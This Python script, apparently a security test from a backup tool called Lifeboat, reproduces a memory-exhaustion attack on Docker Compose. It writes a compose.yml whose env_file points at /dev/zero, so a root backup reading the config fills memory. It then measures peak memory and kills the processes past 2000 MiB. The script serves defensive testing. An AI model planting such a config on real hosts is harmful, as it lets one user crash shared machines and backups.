#!/usr/bin/env python3
# Copyright: Lifeboat contributors
# GNU General Public License v3.0 or later (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""The attack: the unprivileged owner of a Compose project fills the machine's memory, whenever root makes a backup.

It uses files and command lines only. A service of his project has its variables in /dev/zero; Compose reads it whole.

Usage: endless_variables.py product|unprotected DIRECTORY

product: `lifeboat backup config`. unprotected: `docker compose config`, as a backup script calls it. Prints the most
memory that one of its processes had, in MiB. Exit 0: it was more than ENOUGH, and all was killed before it was more.
"""

from __future__ import annotations

import contextlib
import os
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import ended
from hostile_project import STACK, command

# MiB of one process: Compose needs 50 for an honest project. Where it may have 1024 of its own, its program and what it
# maps are beside them: 1414 were seen.
ENOUGH = 2000
PROJECT = "name: shop\nservices: {{web: {{image: web, env_file: [{named}]}}}}\n"
REFUSED = "out of memory"  # what Compose ends with where it may have no more


def descendants(pid: int) -> Iterator[int]:
    yield pid
    with contextlib.suppress(OSError):
        for path in Path(f"/proc/{pid}/task").glob("*/children"):
            for child in path.read_text().split():
                yield from descendants(int(child))


def peak(pid: int) -> int:
    """MiB of memory that it has had at most; 0 where it ended meanwhile."""
    with contextlib.suppress(OSError):
        for line in Path(f"/proc/{pid}/status").read_text().splitlines():
            if line.startswith("VmHWM:"):
                return int(line.split()[1]) >> 10
    return 0


def ran(target: str, directory: Path, named: str) -> tuple[int, int, str]:
    """Its exit status, what it said, and the most memory that one of its processes had."""
    project = directory / "project"
    project.mkdir(exist_ok=True)
    (project / "web.env").write_text("A=1\n")
    (project / "compose.yml").write_text(PROJECT.format(named=named))
    words, environment = command(target, directory, project)
    log, most = directory / "log", 0
    with log.open("wb") as sink:
        process = subprocess.Popen(words, stdout=sink, stderr=sink, env=environment)
    while process.poll() is None:
        tree = list(descendants(process.pid))
        most = max(most, *map(peak, tree))
        if most > ENOUGH:
            for pid in tree:
                with contextlib.suppress(ProcessLookupError):
                    os.kill(pid, signal.SIGKILL)
        time.sleep(0.01)
    said = log.read_text(errors="replace")
    print(f"{named}: exit {process.returncode}, {most} MiB\n{said[:2000]}", file=sys.stderr)
    return process.returncode, most, said


def main() -> int:
    target, directory = sys.argv[1], Path(sys.argv[2]).resolve()
    status, most, _said = ran(target, directory, "web.env")
    if status or not 0 < most < ENOUGH:
        raise SystemExit("an honest project is not read, which proves nothing")
    _status, most, said = ran(target, directory, "/dev/zero")
    if most <= ENOUGH and REFUSED not in said:
        raise SystemExit("Compose did not read the file, which proves nothing")
    print(most)
    return 0 if most > ENOUGH else 1


if __name__ == "__main__":
    ended.end(main, STACK)
